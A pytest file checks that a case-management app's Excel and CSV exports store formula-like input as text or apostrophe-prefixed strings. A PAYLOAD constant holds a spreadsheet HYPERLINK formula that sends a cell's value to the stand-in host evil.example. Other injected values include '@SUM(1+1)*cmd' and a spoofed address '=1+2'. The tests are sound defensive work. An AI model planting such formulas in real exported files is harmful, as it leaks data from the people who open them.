"""Exports write user text as text: an institution typed as a spreadsheet formula is a string
cell in the Excel workbook and an apostrophe-prefixed cell in the CSV files (statistics and
audit log), read back with openpyxl and the csv module."""

from __future__ import annotations

import csv
import datetime as dt
import io

from openpyxl import Workbook, load_workbook

from app.cases.models import PartyType
from app.cases.services import RespondentInput
from app.core.exports import append_xlsx_row, csv_row

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


def _payload_case(make_case, make_user):
    officer = make_user("SH", roles=("officer",), display_name="@SUM(1+1)*cmd")
    return make_case(
        "SH",
        by=officer,
        received_date=dt.date(2026, 4, 1),
        respondents=[
            RespondentInput(name="某研究所", party_type=PartyType.person, institution=PAYLOAD)
        ],
    )


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_statistics_excel_keeps_an_institution_typed_as_a_formula_as_text(
    make_case, make_user, login
):
    _payload_case(make_case, make_user)
    client = login(make_user("SH", roles=("supervisor",)))
    response = client.get("/statistics/agency.xlsx?year=2026")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    found = [c for c in cells if c.value == PAYLOAD]
    assert found, "the institution is in the workbook"
    assert all(c.data_type == "s" for c in found)  # a string, not a formula ("f")
    assert not [c for c in cells if c.data_type == "f"]


def test_statistics_csv_prefixes_an_institution_typed_as_a_formula(make_case, make_user, login):
    _payload_case(make_case, make_user)
    client = login(make_user("SH", roles=("supervisor",)))
    response = client.get("/statistics/agency/institution.csv?year=2026")
    assert response.status_code == 200
    labels = [row[0] for row in _csv(response)[1:]]
    assert "'" + PAYLOAD in labels and PAYLOAD not in labels


def test_audit_csv_prefixes_text_a_spreadsheet_would_evaluate(make_user, login, client):
    """The address a request came from is what the server was told (behind a proxy, the
    forwarded one): written as it came, it would be a formula."""
    auditor = make_user("SH", roles=("auditor",))
    client.post(
        "/login",
        data={"username": auditor.username, "password": "wrong-password"},
        environ_base={"REMOTE_ADDR": "=1+2"},
    )
    login(auditor)
    rows = _csv(client.get("/audit/export.csv"))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'=1+2" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_the_shared_helper_leaves_numbers_and_plain_text_alone():
    assert csv_row(["=1+2", "+3", "-4", "@x", "\tx", "\rx", "plain", -5, 2.5, None]) == [
        "'=1+2",
        "'+3",
        "'-4",
        "'@x",
        "'\tx",
        "'\rx",
        "plain",
        -5,
        2.5,
        None,
    ]
    book = Workbook()
    append_xlsx_row(book.active, ["=1+2", 3, "text"])
    out = io.BytesIO()
    book.save(out)
    a, b, c = next(load_workbook(out).active.iter_rows(min_row=1, max_row=1))
    assert (a.value, a.data_type) == ("=1+2", "s")
    assert (b.value, b.data_type) == (3, "n")
    assert c.data_type == "s"
